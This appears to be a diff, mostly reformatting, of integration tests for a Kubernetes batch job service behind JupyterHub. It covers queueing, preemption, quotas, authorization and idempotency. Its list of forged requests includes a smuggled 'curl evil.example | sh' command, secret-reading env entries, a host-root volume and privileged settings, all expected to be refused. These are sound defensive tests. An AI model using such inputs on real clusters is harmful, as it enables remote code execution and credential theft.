@@ -29,13 +29,13 @@ from typing import Any
 import pytest
 import pytest_asyncio
 import yaml
+from aiinfn_dev import devstorage, hubaccount, kueue_config
+from aiinfn_dev.devcluster.processes import free_port
 from kubernetes_asyncio import client
 from tornado.httpclient import HTTPRequest
 from tornado.websocket import websocket_connect
 
-from aiinfn_dev import devstorage, hubaccount, kueue_config
 from aiinfn_hub import k8s, labels
-from aiinfn_dev.devcluster.processes import free_port
 from aiinfn_hub.services.jobs.operations import job_name
 from tests.helpers import has_default_service_account, restricted_pod, wait_until
 from tests.hub import REPO, Hub, start_hub, stop_hub
@@ -54,12 +54,18 @@ SPAWNER = {
     "default_policy": {"accelerators": ["cpu"], "environments": "*"},
     "group_policies": {
         "cms-ml": {"accelerators": "*", "environments": "*", "max_accelerators": 2},
-        "lhcb-flashsim": {"accelerators": ["cpu", "t4"], "environments": "*", "max_accelerators": 1},
+        "lhcb-flashsim": {
+            "accelerators": ["cpu", "t4"],
+            "environments": "*",
+            "max_accelerators": 1,
+        },
         "qml": {"accelerators": "*", "environments": "*", "max_accelerators": 2},
     },
 }
 JOB_LABELS = f"{labels.MANAGED_BY}={labels.MANAGED_BY_VALUE},{labels.COMPONENT}=batch-job"
-SANDBOX_LABELS = f"{labels.MANAGED_BY}={labels.MANAGED_BY_VALUE},{labels.COMPONENT}=batch-job-sandbox"
+SANDBOX_LABELS = (
+    f"{labels.MANAGED_BY}={labels.MANAGED_BY_VALUE},{labels.COMPONENT}=batch-job-sandbox"
+)
 # The farm's only A30 is qml's: while a job of quinn's holds it (the fixture a30_taken), others wait.
 A30 = {"accelerator": "a30", "environment": "qml"}
 
@@ -71,14 +77,23 @@ class Env:
     namespace: str
     tokens: dict[str, str] = field(default_factory=dict)
 
-    def call(self, user: str | None, method: str, path: str, body=None, token: str | None = None,
-             raw: bytes | None = None) -> tuple[int, dict, Any]:
+    def call(
+        self,
+        user: str | None,
+        method: str,
+        path: str,
+        body=None,
+        token: str | None = None,
+        raw: bytes | None = None,
+    ) -> tuple[int, dict, Any]:
         """(status, JSON body, headers) of one API call through the hub's proxy."""
         data = raw if raw is not None else (json.dumps(body).encode() if body is not None else None)
         headers = {}
         if token or user:
             headers["Authorization"] = f"token {token or self.tokens[user]}"
-        request = urllib.request.Request(f"{self.hub.url}{PREFIX}{path}", data=data, method=method, headers=headers)
+        request = urllib.request.Request(
+            f"{self.hub.url}{PREFIX}{path}", data=data, method=method, headers=headers
+        )
         try:
             with urllib.request.urlopen(request, timeout=30) as response:
                 return response.status, json.loads(response.read() or b"{}"), response.headers
@@ -94,8 +109,17 @@ class Env:
 
 
 async def make_namespace(core, name: str) -> None:
-    await core.create_namespace(client.V1Namespace(metadata=client.V1ObjectMeta(name=name, labels={
-        labels.POD_SECURITY_ENFORCE: "restricted", labels.POD_SECURITY_ENFORCE_VERSION: "latest"})))
+    await core.create_namespace(
+        client.V1Namespace(
+            metadata=client.V1ObjectMeta(
+                name=name,
+                labels={
+                    labels.POD_SECURITY_ENFORCE: "restricted",
+                    labels.POD_SECURITY_ENFORCE_VERSION: "latest",
+                },
+            )
+        )
+    )
     await wait_until(lambda: has_default_service_account(core, name), "default service account")
 
 
@@ -103,7 +127,9 @@ async def prepare(api_client, name: str, root: Path, kueue_documents) -> list[di
     """A restricted namespace with the storage claims and the projects' LocalQueues."""
     await make_namespace(client.CoreV1Api(api_client), name)
     storage = await devstorage.setup(api_client, name, root)
-    await wait_until(lambda: devstorage.claims_bound(api_client, name, storage), "storage claims bound")
+    await wait_until(
+        lambda: devstorage.claims_bound(api_client, name, storage), "storage claims bound"
+    )
     queues = kueue_config.local_queues(kueue_documents, name)
     await kueue_config.apply(api_client, queues)
     await wait_until(lambda: kueue_config.queues_active(api_client, queues), "LocalQueues active")
@@ -111,7 +137,9 @@ async def prepare(api_client, name: str, root: Path, kueue_documents) -> list[di
 
 
 async def user_token(hub: Hub, user: str) -> str:
-    status, body = await asyncio.to_thread(hub.request, "POST", f"/users/{user}/tokens", {"note": "jobs tests"})
+    status, body = await asyncio.to_thread(
+        hub.request, "POST", f"/users/{user}/tokens", {"note": "jobs tests"}
+    )
     assert status == 201, body
     return body["token"]
 
@@ -124,10 +152,15 @@ async def env(devcluster, api_client, kueue, tmp_path_factory):
     storage = await prepare(api_client, name, tmp / "storage", kueue)
     port, token = free_port(), secrets.token_hex(32)
     account = await hubaccount.hub_kubeconfig(api_client, name, kubeconfig, tmp / "hub.kubeconfig")
-    hub, responder = await asyncio.to_thread(start_hub, tmp, account, name, USERS, SPAWNER,
-                                             hub_lines(port, token, rate_limit=200.0,
-                                                       rate_limit_burst=400,
-                                                       orphan_grace_seconds=3.0))
+    hub, responder = await asyncio.to_thread(
+        start_hub,
+        tmp,
+        account,
+        name,
+        USERS,
+        SPAWNER,
+        hub_lines(port, token, rate_limit=200.0, rate_limit_burst=400, orphan_grace_seconds=3.0),
+    )
     service = Service(tmp, hub, port, token)
     try:
         await asyncio.to_thread(service.start)
@@ -163,12 +196,15 @@ def sleep_command(seconds: int) -> list[str]:
 @pytest_asyncio.fixture(loop_scope="session")
 async def a30_taken(env):
     """A long job of quinn's that Kueue admitted to the A30: jobs asking for it wait in line."""
-    status, job, _ = await env.api("quinn", "POST", "api/jobs", job_body(
-        name="holder", command=sleep_command(600), **A30))
+    status, job, _ = await env.api(
+        "quinn", "POST", "api/jobs", job_body(name="holder", command=sleep_command(600), **A30)
+    )
     assert status == 201, job
     try:
-        await wait_until(lambda: state_of(env, "quinn", job["id"], "admitted", "starting", "running"),
-                         "the A30 to be taken")
+        await wait_until(
+            lambda: state_of(env, "quinn", job["id"], "admitted", "starting", "running"),
+            "the A30 to be taken",
+        )
         yield job
     finally:
         await env.api("quinn", "DELETE", f"api/jobs/{job['id']}")
@@ -179,7 +215,11 @@ async def state_of(env: Env, user: str, job_id: str, *states: str, placed: bool 
     position and Kueue's word on why it waits)."""
     status, body, _ = await env.api(user, "GET", f"api/jobs/{job_id}")
     assert status == 200, body
-    return body if body["state"] in states and (not placed or body["position"] and body["message"]) else None
+    return (
+        body
+        if body["state"] in states and (not placed or body["position"] and body["message"])
+        else None
+    )
 
 
 class _NoRedirect(urllib.request.HTTPRedirectHandler):
@@ -199,17 +239,29 @@ def first_answer(url: str) -> tuple[int, str]:
 async def our_objects(env: Env, core, batch) -> tuple[list[str], list[str]]:
     jobs = await batch.list_namespaced_job(env.namespace, label_selector=JOB_LABELS)
     sandboxes = await core.list_namespaced_config_map(env.namespace, label_selector=SANDBOX_LABELS)
-    return sorted(j.metadata.name for j in jobs.items), sorted(c.metadata.name for c in sandboxes.items)
+    return sorted(j.metadata.name for j in jobs.items), sorted(
+        c.metadata.name for c in sandboxes.items
+    )
 
 
 # -- submitting and running ----------------------------------------------------------------------
 
-async def test_a_job_is_created_suspended_in_its_projects_queue_and_waits_there(env, batch, a30_taken):
+
+async def test_a_job_is_created_suspended_in_its_projects_queue_and_waits_there(
+    env, batch, a30_taken
+):
     status, job, headers = await env.api("alice", "POST", "api/jobs", job_body(name="waits", **A30))
     assert status == 201, job
     assert headers["Location"] == f"{PREFIX}api/jobs/{job['id']}"
-    assert (job["owner"], job["project"], job["queue"], job["state"]) == ("alice", "cms-ml", "project-cms-2dml", "queued")
-    waiting = await wait_until(lambda: state_of(env, "alice", job["id"], "queued", placed=True), "Kueue's workload")
+    assert (job["owner"], job["project"], job["queue"], job["state"]) == (
+        "alice",
+        "cms-ml",
+        "project-cms-2dml",
+        "queued",
+    )
+    waiting = await wait_until(
+        lambda: state_of(env, "alice", job["id"], "queued", placed=True), "Kueue's workload"
+    )
     assert waiting["position"] == 1 and "couldn't assign flavors" in waiting["message"]
     created = await batch.read_namespaced_job(job["id"], env.namespace)
     assert created.spec.suspend is True and created.status.start_time is None
@@ -220,20 +272,36 @@ async def test_a_job_is_created_suspended_in_its_projects_queue_and_waits_there(
     pod = created.spec.template.spec
     assert (pod.automount_service_account_token, pod.priority_class_name) == (False, "aiinfn-batch")
     assert pod.security_context.run_as_non_root and pod.security_context.run_as_user >= 100000
-    assert pod.containers[0].resources.requests == {"cpu": "8", "memory": "32Gi", "nvidia.com/gpu": "1"}
+    assert pod.containers[0].resources.requests == {
+        "cpu": "8",
+        "memory": "32Gi",
+        "nvidia.com/gpu": "1",
+    }
     status, cancelled, _ = await env.api("alice", "DELETE", f"api/jobs/{job['id']}")
     assert (status, cancelled["state"]) == (200, "cancelled")
 
 
 async def test_a_batch_job_with_sandbox_files_runs_to_completion(env, core):
     script = "import os; print('hello', os.environ['EPOCHS'])\n"
-    status, job, _ = await env.api("alice", "POST", "api/jobs", job_body(
-        command=["python", "train.py"], files={"train.py": script}, env={"EPOCHS": "2"}))
+    status, job, _ = await env.api(
+        "alice",
+        "POST",
+        "api/jobs",
+        job_body(command=["python", "train.py"], files={"train.py": script}, env={"EPOCHS": "2"}),
+    )
     assert status == 201, job
     sandbox = await core.read_namespaced_config_map(job["id"], env.namespace)
-    assert sandbox.data == {"train.py": script} and sandbox.metadata.owner_references[0].name == job["id"]
-    done = await wait_until(lambda: state_of(env, "alice", job["id"], "succeeded"), "the job to succeed")
-    assert done["admission"] == {"cluster_queue": "project-cms-2dml", "flavors": {"cpu": "cpu", "memory": "cpu"}}
+    assert (
+        sandbox.data == {"train.py": script}
+        and sandbox.metadata.owner_references[0].name == job["id"]
+    )
+    done = await wait_until(
+        lambda: state_of(env, "alice", job["id"], "succeeded"), "the job to succeed"
+    )
+    assert done["admission"] == {
+        "cluster_queue": "project-cms-2dml",
+        "flavors": {"cpu": "cpu", "memory": "cpu"},
+    }
     assert done["succeeded"] == 1 and done["pods"][0]["node"].startswith("service-vm-")
     status, listing, _ = await env.api("alice", "GET", "api/jobs")
     assert job["id"] in [j["id"] for j in listing["jobs"]]
@@ -248,8 +316,12 @@ async def test_over_quota_jobs_wait_in_line_and_lower_priority_is_preempted(env,
     priority wait in line behind it (only a higher priority preempts); a high-priority job
     preempts it and runs; the waiting ones run once the long one is cancelled. (Jobs really run:
     the pod runner plays their pods.)"""
-    _, low, _ = await env.api("quinn", "POST", "api/jobs", job_body(
-        name="low", priority="low", command=sleep_command(300), **A30))
+    _, low, _ = await env.api(
+        "quinn",
+        "POST",
+        "api/jobs",
+        job_body(name="low", priority="low", command=sleep_command(300), **A30),
+    )
     waiting: list[str] = []
     try:
         await _wait_in_line_then_preempt(env, low, waiting)
@@ -259,9 +331,13 @@ async def test_over_quota_jobs_wait_in_line_and_lower_priority_is_preempted(env,
 
 
 async def _wait_in_line_then_preempt(env: Env, low: dict, waiting: list[str]) -> None:
-    await wait_until(lambda: state_of(env, "quinn", low["id"], "running"), "the low-priority job to run")
+    await wait_until(
+        lambda: state_of(env, "quinn", low["id"], "running"), "the low-priority job to run"
+    )
     for name in ("next", "later"):
-        status, job, _ = await env.api("quinn", "POST", "api/jobs", job_body(name=name, priority="low", **A30))
+        status, job, _ = await env.api(
+            "quinn", "POST", "api/jobs", job_body(name=name, priority="low", **A30)
+        )
         assert status == 201, job
         waiting.append(job["id"])
     seen: list[list[dict]] = []
@@ -271,7 +347,9 @@ async def _wait_in_line_then_preempt(env: Env, low: dict, waiting: list[str]) ->
         shift as workloads appear; Kueue writes a workload's reason when it tries to admit it,
         and a write it loses to another update is written again only at its next try)."""
         _, listing, _ = await env.api("quinn", "GET", "api/jobs")
-        jobs = sorted((j for j in listing["jobs"] if j["id"] in waiting), key=lambda j: j["position"] or 0)
+        jobs = sorted(
+            (j for j in listing["jobs"] if j["id"] in waiting), key=lambda j: j["position"] or 0
+        )
         seen[:] = [jobs]
         placed = len(jobs) == 2 and all(j["state"] == "queued" and j["position"] for j in jobs)
         return jobs if placed and any(j["message"] for j in jobs) else None
@@ -281,35 +359,57 @@ async def _wait_in_line_then_preempt(env: Env, low: dict, waiting: list[str]) ->
     except AssertionError as error:
         raise AssertionError(f"{error}; last seen: {seen}") from None
     assert [j["position"] for j in line] == [1, 2]  # (same second: Kueue breaks the tie by uid)
-    assert all(j["message"].startswith("couldn't assign flavors") for j in line if j["message"]), line
+    assert all(j["message"].startswith("couldn't assign flavors") for j in line if j["message"]), (
+        line
+    )
 
     # The urgent job runs a few seconds, so the preempted one is seen waiting before it is back.
-    _, high, _ = await env.api("quinn", "POST", "api/jobs", job_body(
-        name="urgent", priority="high", command=sleep_command(3), **A30))
-    preempted = await wait_until(lambda: state_of(env, "quinn", low["id"], "preempted", placed=True),
-                                 "the low one to be preempted")
-    assert preempted["message"] == ("preempted by a higher-priority job of the same project; "
-                                    "waiting in the queue to be admitted again")
+    _, high, _ = await env.api(
+        "quinn",
+        "POST",
+        "api/jobs",
+        job_body(name="urgent", priority="high", command=sleep_command(3), **A30),
+    )
+    preempted = await wait_until(
+        lambda: state_of(env, "quinn", low["id"], "preempted", placed=True),
+        "the low one to be preempted",
+    )
+    assert preempted["message"] == (
+        "preempted by a higher-priority job of the same project; "
+        "waiting in the queue to be admitted again"
+    )
     assert preempted["admission"] is None and preempted["active"] == 0
-    await wait_until(lambda: state_of(env, "quinn", high["id"], "succeeded"), "the high-priority job to run")
+    await wait_until(
+        lambda: state_of(env, "quinn", high["id"], "succeeded"), "the high-priority job to run"
+    )
     # Kueue then admits the preempted job again or one of the waiting ones: cancelling the long
     # job leaves the quota to them.
     status, cancelled, _ = await env.api("quinn", "DELETE", f"api/jobs/{low['id']}")
     assert (status, cancelled["state"]) == (200, "cancelled")
     for job_id in waiting:
-        await wait_until(lambda: state_of(env, "quinn", job_id, "succeeded"), "a waiting job to run")
+        await wait_until(
+            lambda job_id=job_id: state_of(env, "quinn", job_id, "succeeded"),
+            "a waiting job to run",
+        )
 
 
-async def test_a_job_whose_pod_a_notebook_preempts_says_so_until_it_runs_again(env, core, pod_runner):
+async def test_a_job_whose_pod_a_notebook_preempts_says_so_until_it_runs_again(
+    env, core, pod_runner
+):
     """The scheduler, not Kueue, preempts: a notebook pod (PriorityClass aiinfn-notebook) takes the
     farm's only A30 from a running job. The Job makes a replacement pod, which waits Pending while
     the Job counts it active and Kueue keeps the job admitted: the job is preempted, not running."""
-    _, job, _ = await env.api("quinn", "POST", "api/jobs", job_body(
-        name="bumped", priority="low", command=sleep_command(300), **A30))
+    _, job, _ = await env.api(
+        "quinn",
+        "POST",
+        "api/jobs",
+        job_body(name="bumped", priority="low", command=sleep_command(300), **A30),
+    )
     await wait_until(lambda: state_of(env, "quinn", job["id"], "running"), "the job to run")
     notebook = restricted_pod("a30-notebook", limits={"nvidia.com/gpu": "1"})
-    notebook["spec"].update(priorityClassName="aiinfn-notebook", nodeSelector={
-        "nvidia.com/gpu.product": "NVIDIA-A30"})
+    notebook["spec"].update(
+        priorityClassName="aiinfn-notebook", nodeSelector={"nvidia.com/gpu.product": "NVIDIA-A30"}
+    )
     await core.create_namespaced_pod(env.namespace, notebook)
 
     async def preempted_and_waiting():
@@ -319,9 +419,14 @@ async def test_a_job_whose_pod_a_notebook_preempts_says_so_until_it_runs_again(e
 
     try:
         waiting = await wait_until(preempted_and_waiting, "the job to be preempted")
-        assert waiting["message"].startswith("preempted by a higher-priority workload; its replacement pod is "
-                                             "waiting for a free a30 (0/"), waiting
-        assert waiting["admission"]["flavors"]["nvidia.com/gpu"] == "a30" and waiting["position"] is None
+        assert waiting["message"].startswith(
+            "preempted by a higher-priority workload; its replacement pod is "
+            "waiting for a free a30 (0/"
+        ), waiting
+        assert (
+            waiting["admission"]["flavors"]["nvidia.com/gpu"] == "a30"
+            and waiting["position"] is None
+        )
         assert "Pending" in [p["phase"] for p in waiting["pods"]] and waiting["failed"] == 0
     finally:
         await core.delete_namespaced_pod("a30-notebook", env.namespace, grace_period_seconds=0)
@@ -330,11 +435,17 @@ async def test_a_job_whose_pod_a_notebook_preempts_says_so_until_it_runs_again(e
 
 
 async def test_an_offloadable_job_runs_on_the_virtual_node(env, core):
-    status, body, _ = await env.api("alice", "POST", "api/jobs", job_body(offloadable=True, volumes=["home"]))
+    status, body, _ = await env.api(
+        "alice", "POST", "api/jobs", job_body(offloadable=True, volumes=["home"])
+    )
     assert status == 400 and "cannot mount home" in body["message"]
-    status, job, _ = await env.api("alice", "POST", "api/jobs", job_body(offloadable=True, accelerator="t4"))
+    status, job, _ = await env.api(
+        "alice", "POST", "api/jobs", job_body(offloadable=True, accelerator="t4")
+    )
     assert status == 201, job
-    done = await wait_until(lambda: state_of(env, "alice", job["id"], "succeeded"), "the offloaded job")
+    done = await wait_until(
+        lambda: state_of(env, "alice", job["id"], "succeeded"), "the offloaded job"
+    )
     assert done["admission"]["flavors"]["nvidia.com/gpu"] == "interlink-infn-t1"
     assert {p["node"] for p in done["pods"]} == {"interlink-infn-t1"}
     assert done["offloadable"] is True
@@ -346,17 +457,46 @@ FORGED = [
     ("alice", job_body(user="bob"), 400, "unknown field 'user'"),
     ("alice", job_body(namespace="kube-system"), 400, "unknown field 'namespace'"),
     ("alice", job_body(queue="project-lhcb-2dflashsim"), 400, "unknown field 'queue'"),
-    ("alice", job_body(labels={labels.OWNER: "bob", "kueue.x-k8s.io/queue-name": "x"}), 400, "unknown field 'labels'"),
-    ("alice", job_body(env={"KEY": {"valueFrom": {"secretKeyRef": {"name": "juicefs", "key": "k"}}}}), 400,
-     "env.KEY: Input should be a valid string"),
-    ("alice", job_body(envFrom=[{"secretRef": {"name": "juicefs"}}]), 400, "unknown field 'envFrom'"),
+    (
+        "alice",
+        job_body(labels={labels.OWNER: "bob", "kueue.x-k8s.io/queue-name": "x"}),
+        400,
+        "unknown field 'labels'",
+    ),
+    (
+        "alice",
+        job_body(env={"KEY": {"valueFrom": {"secretKeyRef": {"name": "juicefs", "key": "k"}}}}),
+        400,
+        "env.KEY: Input should be a valid string",
+    ),
+    (
+        "alice",
+        job_body(envFrom=[{"secretRef": {"name": "juicefs"}}]),
+        400,
+        "unknown field 'envFrom'",
+    ),
     ("alice", job_body(volumes=[{"name": "host", "hostPath": {"path": "/"}}]), 400, "volumes.0"),
-    ("alice", job_body(securityContext={"privileged": True}), 400, "unknown field 'securityContext'"),
+    (
+        "alice",
+        job_body(securityContext={"privileged": True}),
+        400,
+        "unknown field 'securityContext'",
+    ),
     ("alice", job_body(privileged=True), 400, "unknown field 'privileged'"),
-    ("alice", job_body(command="python train.py && curl evil.example | sh"), 400, "command: Input should be"),
+    (
+        "alice",
+        job_body(command="python train.py && curl evil.example | sh"),
+        400,
+        "command: Input should be",
+    ),
     ("alice", job_body(image="docker.io/library/ubuntu:22.04"), 400, "unknown field 'image'"),
     ("alice", job_body(env={"JUPYTERHUB_API_TOKEN": "x"}), 400, "reserved by the platform"),
-    ("alice", job_body(project="lhcb-flashsim"), 403, "not a member of a project called 'lhcb-flashsim'"),
+    (
+        "alice",
+        job_body(project="lhcb-flashsim"),
+        403,
+        "not a member of a project called 'lhcb-flashsim'",
+    ),
     ("alice", job_body(priority="root"), 400, "unknown priority 'root'"),
     ("bob", job_body(accelerator="a100"), 403, "not available to your groups"),
     ("dave", job_body(), 403, "you are in no project"),
@@ -371,7 +511,9 @@ async def test_forged_requests_are_refused_and_create_nothing(env, core, batch):
         assert (got, message in answer.get("message", "")) == (status, True), (body, answer)
     got, answer, _ = await env.api("alice", "POST", "api/clones", job_body(environment="ml-gpu"))
     assert got == 400 and "unknown field 'environment'" in answer["message"]
-    got, answer, _ = await env.api("alice", "POST", "api/jobs", raw=b"{" + b" " * (600 * 1024) + b"}")
+    got, answer, _ = await env.api(
+        "alice", "POST", "api/jobs", raw=b"{" + b" " * (600 * 1024) + b"}"
+    )
     assert got == 413, answer
     got, answer, _ = await env.api("alice", "POST", "api/jobs", raw=b"not json")
     assert got == 400 and answer["message"].startswith("invalid request")
@@ -383,13 +525,23 @@ async def test_a_job_that_could_never_run_is_refused_with_the_largest_request(en
     with the service's own Role: beyond it a job would wait forever."""
     before = await our_objects(env, core, batch)
     status, body, _ = await env.api("alice", "POST", "api/jobs", job_body(cpu="999999"))
-    assert (status, body["message"]) == (400, "this job can never run: one pod asks for 999999 CPUs and 8Gi memory, "
-                                               "and the nodes that can run it have at most 16 CPUs and 64Gi memory "
-                                               "(not necessarily on one node)")
-    status, body, _ = await env.api("alice", "POST", "api/jobs", job_body(accelerator="a100", count=2, completions=3))
-    assert status == 400 and "its project's queue can hold at most 96 CPUs, 768Gi memory and 4 × NVIDIA A100 80GB" \
-        in body["message"], body
-    status, body, _ = await env.api("alice", "POST", "api/jobs", job_body(offloadable=True, cpu="2001"))
+    assert (status, body["message"]) == (
+        400,
+        "this job can never run: one pod asks for 999999 CPUs and 8Gi memory, "
+        "and the nodes that can run it have at most 16 CPUs and 64Gi memory "
+        "(not necessarily on one node)",
+    )
+    status, body, _ = await env.api(
+        "alice", "POST", "api/jobs", job_body(accelerator="a100", count=2, completions=3)
+    )
+    assert (
+        status == 400
+        and "its project's queue can hold at most 96 CPUs, 768Gi memory and 4 × NVIDIA A100 80GB"
+        in body["message"]
+    ), body
+    status, body, _ = await env.api(
+        "alice", "POST", "api/jobs", job_body(offloadable=True, cpu="2001")
+    )
     assert status == 400 and "at most 2000 CPUs and 8Ti memory" in body["message"], body
     assert await our_objects(env, core, batch) == before
 
@@ -405,21 +557,36 @@ async def test_a_user_may_have_only_so_many_unfinished_jobs(env):
     try:
         mine = []
         for key in ("cap-1", "cap-2"):
-            status, job, _ = await env.api("bob", "POST", "api/jobs", job_body(
-                name=key, command=sleep_command(600), idempotency_key=key))
+            status, job, _ = await env.api(
+                "bob",
+                "POST",
+                "api/jobs",
+                job_body(name=key, command=sleep_command(600), idempotency_key=key),
+            )
             assert status == 201, job
             mine.append(job["id"])
-        status, body, _ = await env.api("bob", "POST", "api/jobs", job_body(name="cap-3", idempotency_key="cap-3"))
-        assert (status, body["message"]) == (429, f"you have {limit} jobs that have not finished, the most one user "
-                                                  f"may have ({limit}); wait for some to finish or cancel some")
-        status, again, _ = await env.api("bob", "POST", "api/jobs", job_body(
-            name="cap-1", command=sleep_command(600), idempotency_key="cap-1"))
+        status, body, _ = await env.api(
+            "bob", "POST", "api/jobs", job_body(name="cap-3", idempotency_key="cap-3")
+        )
+        assert (status, body["message"]) == (
+            429,
+            f"you have {limit} jobs that have not finished, the most one user "
+            f"may have ({limit}); wait for some to finish or cancel some",
+        )
+        status, again, _ = await env.api(
+            "bob",
+            "POST",
+            "api/jobs",
+            job_body(name="cap-1", command=sleep_command(600), idempotency_key="cap-1"),
+        )
         assert (status, again["id"]) == (200, mine[0])
         status, other, _ = await env.api("alice", "POST", "api/jobs", job_body(name="other-user"))
         assert status == 201, other
         assert (await env.api("alice", "DELETE", f"api/jobs/{other['id']}"))[0] == 200
         assert (await env.api("bob", "DELETE", f"api/jobs/{mine.pop()}"))[0] == 200
-        status, third, _ = await env.api("bob", "POST", "api/jobs", job_body(name="cap-3", idempotency_key="cap-3"))
+        status, third, _ = await env.api(
+            "bob", "POST", "api/jobs", job_body(name="cap-3", idempotency_key="cap-3")
+        )
         assert status == 201, third
         mine.append(third["id"])
     finally:
@@ -433,7 +600,9 @@ async def test_who_may_call_and_see_what(env, core, batch):
     _, job, _ = await env.api("alice", "POST", "api/jobs", job_body(name="private"))
     for user in ("bob", "quinn"):
         for method, path in (("GET", ""), ("DELETE", ""), ("GET", "/logs"), ("POST", "/resubmit")):
-            status, body, _ = await env.api(user, method, f"api/jobs/{job['id']}{path}", {} if method == "POST" else None)
+            status, body, _ = await env.api(
+                user, method, f"api/jobs/{job['id']}{path}", {} if method == "POST" else None
+            )
             assert (status, body["message"]) == (404, f"no job {job['id']!r}"), (user, method, path)
     status, body, _ = await env.api("bob", "GET", "api/jobs/job-00000000000000000000")
     assert status == 404 and body["message"] == "no job 'job-00000000000000000000'"
@@ -449,13 +618,23 @@ async def test_who_may_call_and_see_what(env, core, batch):
     status, body, headers = await env.api(None, "GET", "api/jobs")
     assert (status, headers["WWW-Authenticate"]) == (401, 'Bearer realm="aiinfn-jobs"'), body
     assert body["message"].startswith("authentication required")
-    status, body, headers = await env.api(None, "POST", "api/jobs", job_body(), token="not-a-hub-token")
-    assert (status, headers["WWW-Authenticate"]) == (401, 'Bearer realm="aiinfn-jobs", error="invalid_token"')
+    status, body, headers = await env.api(
+        None, "POST", "api/jobs", job_body(), token="not-a-hub-token"
+    )
+    assert (status, headers["WWW-Authenticate"]) == (
+        401,
+        'Bearer realm="aiinfn-jobs", error="invalid_token"',
+    )
     assert body["message"].startswith("the token sent is not valid")
-    assert await asyncio.to_thread(first_answer, f"{env.hub.url}{PREFIX}") == (302, "/hub/api/oauth2/authorize")
+    assert await asyncio.to_thread(first_answer, f"{env.hub.url}{PREFIX}") == (
+        302,
+        "/hub/api/oauth2/authorize",
+    )
     status, body, _ = await env.api(None, "GET", "api/jobs", token=env.hub.token)
     assert (status, body["message"]) == (403, "only users can use this service")
-    _, narrow = await asyncio.to_thread(env.hub.request, "POST", "/users/alice/tokens", {"scopes": ["read:users:name!user"]})
+    _, narrow = await asyncio.to_thread(
+        env.hub.request, "POST", "/users/alice/tokens", {"scopes": ["read:users:name!user"]}
+    )
     status, body, _ = await env.api(None, "GET", "api/jobs", token=narrow["token"])
     assert (status, body["message"]) == (403, "this token may not use this service")
     status, doc, _ = await env.api(None, "GET", "api/openapi.json")
@@ -473,10 +652,12 @@ async def test_the_hub_account_may_do_only_what_the_shipped_roles_say(env):
     async with service_api:
         core, batch = client.CoreV1Api(service_api), client.BatchV1Api(service_api)
         assert (await batch.list_namespaced_job(env.namespace)).items is not None
-        for forbidden in (core.list_namespaced_secret("kube-system"),
-                          core.create_namespace({"metadata": {"name": f"{env.namespace}-x"}}),
-                          batch.patch_namespaced_job("any", env.namespace, {"metadata": {"labels": {"a": "b"}}}),
-                          batch.list_namespaced_job("kube-system")):
+        for forbidden in (
+            core.list_namespaced_secret("kube-system"),
+            core.create_namespace({"metadata": {"name": f"{env.namespace}-x"}}),
+            batch.patch_namespaced_job("any", env.namespace, {"metadata": {"labels": {"a": "b"}}}),
+            batch.list_namespaced_job("kube-system"),
+        ):
             with pytest.raises(client.ApiException) as error:
                 await forbidden
             assert error.value.status == 403
@@ -484,11 +665,16 @@ async def test_the_hub_account_may_do_only_what_the_shipped_roles_say(env):
 
 async def test_the_rate_limit_answers_429_with_retry_after(env):
     env.service.stop()
-    await asyncio.to_thread(env.service.start, None, "--AiInfnJobs.rate_limit=0.01", "--AiInfnJobs.rate_limit_burst=3")
+    await asyncio.to_thread(
+        env.service.start, None, "--AiInfnJobs.rate_limit=0.01", "--AiInfnJobs.rate_limit_burst=3"
+    )
     try:
         answers = [await env.api("dave", "GET", "api/jobs") for _ in range(4)]
         assert [a[0] for a in answers] == [200, 200, 200, 429]
-        assert answers[3][1]["message"].startswith("too many requests") and int(answers[3][2]["Retry-After"]) >= 1
+        assert (
+            answers[3][1]["message"].startswith("too many requests")
+            and int(answers[3][2]["Retry-After"]) >= 1
+        )
         assert (await env.api("bob", "GET", "api/jobs"))[0] == 200
     finally:
         env.service.stop()
@@ -496,6 +682,7 @@ async def test_the_rate_limit_answers_429_with_retry_after(env):
 
 
 # -- idempotency and restarts -------------------------------------------------------------------
+
 
 def blackhole_kubeconfig(kubeconfig: Path, tmp: Path) -> tuple[Path, socket.socket]:
     """A kubeconfig whose API server accepts connections and never answers."""
@@ -515,7 +702,9 @@ async def test_idempotency_keys_and_restarts_lose_and_duplicate_nothing(env, cor
     results = await asyncio.gather(*(env.api("alice", "POST", "api/jobs", body) for _ in range(8)))
     assert sorted(r[0] for r in results) == [200] * 7 + [201]
     assert len({r[1]["id"] for r in results}) == 1
-    status, answer, _ = await env.api("alice", "POST", "api/jobs", job_body(name="other", idempotency_key="k-once"))
+    status, answer, _ = await env.api(
+        "alice", "POST", "api/jobs", job_body(name="other", idempotency_key="k-once")
+    )
     assert status == 409 and "already used for a different job" in answer["message"]
     status, bobs, _ = await env.api("bob", "POST", "api/jobs", body)
     assert status == 201 and bobs["id"] != results[0][1]["id"]
@@ -526,8 +715,14 @@ async def test_idempotency_keys_and_restarts_lose_and_duplicate_nothing(env, cor
     blackhole, listener = blackhole_kubeconfig(service.kubeconfig, service.tmp)
     try:
         await asyncio.to_thread(service.start, blackhole)
-        pending = asyncio.ensure_future(env.api("alice", "POST", "api/jobs", job_body(
-            name="crash", idempotency_key="k-crash", files={"data.txt": "1"})))
+        pending = asyncio.ensure_future(
+            env.api(
+                "alice",
+                "POST",
+                "api/jobs",
+                job_body(name="crash", idempotency_key="k-crash", files={"data.txt": "1"}),
+            )
+        )
         await asyncio.sleep(1.0)
         assert not pending.done()
         service.stop(signal.SIGKILL)
@@ -536,15 +731,23 @@ async def test_idempotency_keys_and_restarts_lose_and_duplicate_nothing(env, cor
         listener.close()
     await asyncio.to_thread(service.start)
     jobs, _ = await our_objects(env, core, batch)
-    status, crash, _ = await env.api("alice", "POST", "api/jobs", job_body(
-        name="crash", idempotency_key="k-crash", files={"data.txt": "1"}))
+    status, crash, _ = await env.api(
+        "alice",
+        "POST",
+        "api/jobs",
+        job_body(name="crash", idempotency_key="k-crash", files={"data.txt": "1"}),
+    )
     assert status == 201, crash
 
     # Killed after the Job was created (the answer lost): the retry gets that Job back.
     service.stop(signal.SIGKILL)
     await asyncio.to_thread(service.start)
-    status, again, _ = await env.api("alice", "POST", "api/jobs", job_body(
-        name="crash", idempotency_key="k-crash", files={"data.txt": "1"}))
+    status, again, _ = await env.api(
+        "alice",
+        "POST",
+        "api/jobs",
+        job_body(name="crash", idempotency_key="k-crash", files={"data.txt": "1"}),
+    )
     assert (status, again["id"]) == (200, crash["id"])
     after, sandboxes = await our_objects(env, core, batch)
     assert sorted(set(after) - set(jobs)) == [crash["id"]] and crash["id"] in sandboxes
